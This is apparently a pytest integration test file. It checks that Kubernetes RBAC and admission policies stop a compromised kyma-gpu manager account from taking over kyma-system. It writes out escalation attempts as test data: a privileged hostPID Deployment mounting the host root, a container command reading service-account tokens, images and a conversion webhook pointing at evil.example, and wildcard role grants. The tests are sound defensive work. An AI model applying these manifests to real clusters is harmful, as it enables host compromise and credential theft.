"""A compromised manager does not own kyma-system (issue 32, finding 1), on the real API server.

Each attack of the issue runs as `system:serviceaccount:kyma-system:gpu-manager` with
config/default in force (RBAC, the module's Flux accounts from flux/access, the admission
policies kyma-gpu-manager and kyma-gpu-manager-mirrors), `--dry-run=server`: authorization and
admission run, nothing is stored. What the manager's own code writes (the bundle's Deployments,
as plan/provision.bundle renders them, its Lease, a HelmRelease as the plan renders it) is
accepted the same way, so a refusal here is the policy's, not a broken request.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from kyma_gpu.api.chart_sources import CONFIG_MAP_NAME, REGISTRIES_KEY
from kyma_gpu.extensions.own_flux.bundle import MIRROR_LABEL, FluxBundle, FluxImages
from kyma_gpu.plan.provision import PROVIDED, PROVIDED_LABEL
from tests.harness.chart_sources import NVIDIA, chart_sources_config_map
from tests.harness.cluster import LocalCluster
from tests.harness.module import MODULE_NAMESPACE, install_crds, install_module_rbac, wait_until

pytestmark = pytest.mark.integration

MANAGER = f"system:serviceaccount:{MODULE_NAMESPACE}:gpu-manager"
AS_MANAGER = (f"--as={MANAGER}", "--dry-run=server")
POLICY_WORDS = "the manager's account gpu-manager (kyma-system)"
HELM = "gpu-flux-helm-controller"


@pytest.fixture(scope="module")
def cluster(local_cluster: LocalCluster) -> Iterator[LocalCluster]:
    install_crds(local_cluster)
    install_module_rbac(local_cluster)
    local_cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE,
                          "--ignore-not-found")  # fmt: skip
    # A new admission policy takes effect once the API server has loaded it (about a second).
    lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": "other-component", "namespace": MODULE_NAMESPACE}}  # fmt: skip
    refused = lambda: POLICY_WORDS in _as_manager(local_cluster, "create", "-f", "-", body=lease)[1]  # noqa: E731
    wait_until(refused, 30, "the policies in force")
    yield local_cluster
    local_cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE,
                          "--ignore-not-found")  # fmt: skip


def _allow_registries(cluster: LocalCluster, text: str) -> None:
    """An administrator lists the registry mirrors (harness admin credentials)."""
    config_map = chart_sources_config_map(NVIDIA)
    config_map["data"][REGISTRIES_KEY] = text
    cluster.apply(config_map)


def _as_manager(cluster: LocalCluster, *args: str, body: Any = None) -> tuple[bool, str]:
    text = None if body is None else json.dumps(body)
    flags = AS_MANAGER if args[0] != "get" else AS_MANAGER[:1]
    said = cluster.kubectl(*args, *flags, input=text, check=False)
    # Admission runs before storage: "already exists" (an object an earlier test left) means
    # every policy let the request through.
    allowed = said.returncode == 0 or "(AlreadyExists)" in said.stderr
    return allowed, said.stdout + said.stderr


def _refused(cluster: LocalCluster, body: Mapping[str, Any], words: str) -> None:
    ok, said = _as_manager(cluster, "create", "-f", "-", body=body)
    assert not ok, said
    assert words in said, said


def _helm_controller(images: FluxImages | None = None) -> dict[str, Any]:
    obj = next(
        o for o in FluxBundle(images or FluxImages()).objects() if o["metadata"]["name"] == HELM
    )
    return copy.deepcopy(dict(obj))


def _pod(obj: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = obj["spec"]["template"]["spec"]
    return spec


# -- through RBAC: the rights are gone --


def test_it_cannot_widen_the_flux_role(cluster: LocalCluster) -> None:
    body = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": {"name": HELM, "namespace": MODULE_NAMESPACE},
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}  # fmt: skip
    ok, said = _as_manager(cluster, "apply", "--server-side", "--force-conflicts",
                           "--field-manager=attacker", "-f", "-", body=body)  # fmt: skip
    assert not ok, said
    assert "forbidden" in said, said


def test_it_cannot_bind_the_flux_role_to_itself(cluster: LocalCluster) -> None:
    body = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": {"name": "mine", "namespace": MODULE_NAMESPACE},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": HELM},
            "subjects": [{"kind": "ServiceAccount", "name": "gpu-manager",
                          "namespace": MODULE_NAMESPACE}]}  # fmt: skip
    _refused(cluster, body, "forbidden")


@pytest.mark.parametrize("what", ["secret", "configmap"])
def test_it_reads_no_secret_and_writes_no_config_map(cluster: LocalCluster, what: str) -> None:
    if what == "secret":
        ok, said = _as_manager(cluster, "get", "secrets", "-n", MODULE_NAMESPACE)
        assert not ok, said
        assert "forbidden" in said, said
        return
    body = {"apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": CONFIG_MAP_NAME, "namespace": MODULE_NAMESPACE},
            "data": {"sources.yaml": "sources: []"}}  # fmt: skip
    _refused(cluster, body, "forbidden")


# -- through admission: create carries no name in RBAC --


def test_it_creates_no_other_deployment(cluster: LocalCluster) -> None:
    """The issue's privileged, hostPID Deployment with the host's root, as the release account."""
    body = _helm_controller()
    body["metadata"]["name"] = "evil"
    pod = _pod(body)
    pod.update(serviceAccountName="gpu-operator-release", hostPID=True,
               volumes=[{"name": "root", "hostPath": {"path": "/"}}])  # fmt: skip
    pod["containers"][0]["securityContext"] = {"privileged": True}
    pod["containers"][0]["volumeMounts"] = [{"name": "root", "mountPath": "/host"}]
    _refused(cluster, body, f"{POLICY_WORDS} writes only the Deployments of its Flux bundle")


def _altered(change: str) -> dict[str, Any]:
    body = _helm_controller()
    pod = _pod(body)
    container = pod["containers"][0]
    if change == "account":
        pod["serviceAccountName"] = "gpu-operator-release"
    elif change == "privileged":
        container["securityContext"] = {"privileged": True}
    elif change == "hostPath":
        pod["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
        container["volumeMounts"] = [{"name": "root", "mountPath": "/host"}]
    elif change == "hostPID":
        pod["hostPID"] = True
    elif change == "args":
        container["args"] = [a for a in container["args"] if "watch-all-namespaces" not in a]
    elif change == "command":
        container["command"] = ["/bin/sh", "-c", "cat /var/run/secrets/*/token"]
    elif change == "image":
        name = container["image"].rsplit("/", 1)[1]
        container["image"] = f"evil.example/fluxcd/{name}"
    elif change == "initContainer":
        pod["initContainers"] = [{"name": "x", "image": container["image"]}]
    return body


@pytest.mark.parametrize("change", ["account", "privileged", "hostPath", "hostPID", "args",
                                    "command", "image", "initContainer"])  # fmt: skip
def test_it_runs_its_flux_only_as_the_bundle_renders_it(cluster: LocalCluster, change: str) -> None:
    _refused(cluster, _altered(change), f"{POLICY_WORDS} creates and changes only the Deployments")


def test_the_bundle_itself_is_accepted(cluster: LocalCluster) -> None:
    for obj in FluxBundle().objects():
        if obj["kind"] == "Deployment":
            ok, said = _as_manager(cluster, "create", "-f", "-", body=obj)
            assert ok, said


def test_a_mirrored_flux_needs_a_mirror_the_administrator_lists(cluster: LocalCluster) -> None:
    """Kyma's image localisation (or the manager's environment) names another registry: the
    manager labels the Deployment, and the image must lie below a listed mirror."""
    image = _helm_controller()["spec"]["template"]["spec"]["containers"][0]["image"]
    path = image.split("/", 1)[1]
    mirrored = _helm_controller(FluxImages((("helm-controller", f"mirror.example/{path}"),)))
    assert mirrored["metadata"]["labels"][MIRROR_LABEL] == "mirror"
    ok, said = _as_manager(cluster, "create", "-f", "-", body=mirrored)
    assert not ok, said  # no ConfigMap: the mirror binding refuses (parameter not found)
    _allow_registries(cluster, "other.example\n")
    try:
        _refused(cluster, mirrored, "runs its Flux controllers from a registry mirror only if")
        _allow_registries(cluster, "other.example\nmirror.example\n")
        ok, said = _as_manager(cluster, "create", "-f", "-", body=mirrored)
        assert ok, said
        unlabelled = copy.deepcopy(mirrored)
        del unlabelled["metadata"]["labels"][MIRROR_LABEL]
        _refused(cluster, unlabelled, f"{POLICY_WORDS} creates and changes only the Deployments")
    finally:
        cluster.kubectl("delete", "configmap", CONFIG_MAP_NAME, "-n", MODULE_NAMESPACE)


def test_it_creates_only_the_bundles_crds(cluster: LocalCluster) -> None:
    crd = next(
        copy.deepcopy(dict(o))
        for o in FluxBundle().objects()
        if o["kind"] == "CustomResourceDefinition"
    )
    group = "evil.example"
    crd["metadata"] = {"name": f"{crd['spec']['names']['plural']}.{group}"}
    crd["spec"]["group"] = group
    _refused(cluster, crd, f"{POLICY_WORDS} writes only the CRDs of its Flux bundle")


def test_its_helm_releases_install_only_as_the_release_account(cluster: LocalCluster) -> None:
    body: dict[str, Any] = {"apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease",
            "metadata": {"name": "gpu-operator", "namespace": MODULE_NAMESPACE},
            "spec": {"interval": "10m", "targetNamespace": "gpu-operator",
                     "serviceAccountName": "gpu-flux-helm-controller",
                     "chart": {"spec": {"chart": "gpu-operator",
                                        "sourceRef": {"kind": "HelmRepository",
                                                      "name": "gpu-operator"}}}}}  # fmt: skip
    # refused by kyma-gpu-manager and by kyma-gpu-flux-objects: either may answer first
    _refused(cluster, body, "as gpu-operator-release into gpu-operator")
    body["spec"]["serviceAccountName"] = "gpu-operator-release"
    ok, said = _as_manager(cluster, "create", "-f", "-", body=body)
    assert ok, said
    body["metadata"]["name"] = "second"  # a cluster's own Flux would reconcile it as its admin
    _refused(cluster, body, "gpu-operator")


def test_only_its_own_lease(cluster: LocalCluster) -> None:
    lease: dict[str, Any] = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": "kyma-gpu-manager", "namespace": MODULE_NAMESPACE}}  # fmt: skip
    ok, said = _as_manager(cluster, "create", "-f", "-", body=lease)
    assert ok or "already exists" in said, said
    lease["metadata"]["name"] = "other-component"
    _refused(cluster, lease, f"{POLICY_WORDS} writes only its own Lease")


# -- a Flux the module did not install (issue 43, finding 4) --

FOREIGN_CRD = "helmreleases.helm.toolkit.fluxcd.io"
"""Installed by the harness (tests/harness/flux.py), unlabelled: another team's Flux."""
OWN_CRD = "helmcharts.source.toolkit.fluxcd.io"
"""Labelled by the `own_crd` fixture as the module's own Flux labels it."""
WEBHOOK = {"strategy": "Webhook",
           "webhook": {"clientConfig": {"url": "https://evil.example/convert"},
                       "conversionReviewVersions": ["v1"]}}  # fmt: skip
NOT_OURS = f"{POLICY_WORDS} writes a Flux CRD only while it carries {PROVIDED_LABEL}: {PROVIDED}"
CONVERSION = f"{POLICY_WORDS} never sets or changes a Flux CRD's spec.conversion"


def _bundle_crd(name: str, labelled: bool = True) -> dict[str, Any]:
    crd = next(
        copy.deepcopy(dict(o)) for o in FluxBundle().objects() if o["metadata"]["name"] == name
    )
    if not labelled:
        del crd["metadata"]["labels"][PROVIDED_LABEL]
    return crd


def _patch(name: str, patch: Mapping[str, Any]) -> tuple[str, ...]:
    return ("patch", "crd", name, "--type=merge", "-p", json.dumps(patch))


FOREIGN_WRITES: list[tuple[str, tuple[str, ...]]] = [
    ("delete", ("delete", "crd", FOREIGN_CRD)),
    ("patch", _patch(FOREIGN_CRD, {"metadata": {"labels": {"team": "mine"}}})),
    ("take-over", _patch(FOREIGN_CRD, {"metadata": {"labels": {PROVIDED_LABEL: PROVIDED}}})),
    ("conversion", _patch(FOREIGN_CRD, {"spec": {"conversion": WEBHOOK}})),
    ("apply", ("apply", "--server-side", "--force-conflicts", "--field-manager=kyma-gpu",
               "-f", "-")),
]  # fmt: skip


@pytest.mark.parametrize(("write", "args"), FOREIGN_WRITES, ids=[w[0] for w in FOREIGN_WRITES])
def test_a_foreign_flux_crd_is_never_written(
    cluster: LocalCluster, write: str, args: tuple[str, ...]
) -> None:
    """RBAC lets the manager patch and delete the seven Flux CRDs by name (it must, for its own
    Flux); admission refuses each write to one that lacks the module's label, whoever owns it.
    Deleting the HelmRelease CRD would delete every HelmRelease of the cluster."""
    assert PROVIDED_LABEL not in (cluster.get_object("crd", FOREIGN_CRD) or {})["metadata"].get(
        "labels", {}
    )
    ok, said = _as_manager(cluster, *args, body=_bundle_crd(FOREIGN_CRD))
    assert not ok, said
    assert NOT_OURS in said, said
    assert cluster.get_object("crd", FOREIGN_CRD) is not None


def test_it_creates_a_flux_crd_only_with_its_label(cluster: LocalCluster) -> None:
    """Create carries the module's label (on a cluster without Flux: here the CRD exists, and
    admission runs before the API server answers AlreadyExists)."""
    _refused(cluster, _bundle_crd(FOREIGN_CRD, labelled=False), NOT_OURS)
    ok, said = _as_manager(cluster, "create", "-f", "-", body=_bundle_crd(FOREIGN_CRD))
    assert ok, said
    webhook = _bundle_crd(FOREIGN_CRD)
    webhook["spec"]["conversion"] = WEBHOOK
    _refused(cluster, webhook, CONVERSION)


@pytest.fixture
def own_crd(cluster: LocalCluster) -> Iterator[str]:
    """OWN_CRD as the module's own Flux leaves it (the administrator labels it here), and
    unlabelled again afterwards."""
    labels = {"metadata": {"labels": {PROVIDED_LABEL: PROVIDED}}}
    cluster.kubectl(*_patch(OWN_CRD, labels))
    yield OWN_CRD
    cluster.kubectl(*_patch(OWN_CRD, {"metadata": {"labels": {PROVIDED_LABEL: None}}}))


def test_its_own_flux_crd_is_written_as_today(cluster: LocalCluster, own_crd: str) -> None:
    """The manager applies its bundle's CRD, hands it over (drops the label) and deletes it,
    as reconcile/loop.py does; never with a conversion of its spec."""
    apply = ("apply", "--server-side", "--force-conflicts", "--field-manager=kyma-gpu", "-f", "-")
    hand_over = {"metadata": {"labels": {PROVIDED_LABEL: None}}}
    for args in (apply, _patch(own_crd, hand_over), ("delete", "crd", own_crd)):
        ok, said = _as_manager(cluster, *args, body=_bundle_crd(own_crd))
        assert ok, (args, said)
    webhook = _bundle_crd(own_crd)
    webhook["spec"]["conversion"] = WEBHOOK
    for args in (apply, _patch(own_crd, {"spec": {"conversion": WEBHOOK}})):
        ok, said = _as_manager(cluster, *args, body=webhook)
        assert not ok, said
        assert CONVERSION in said, said
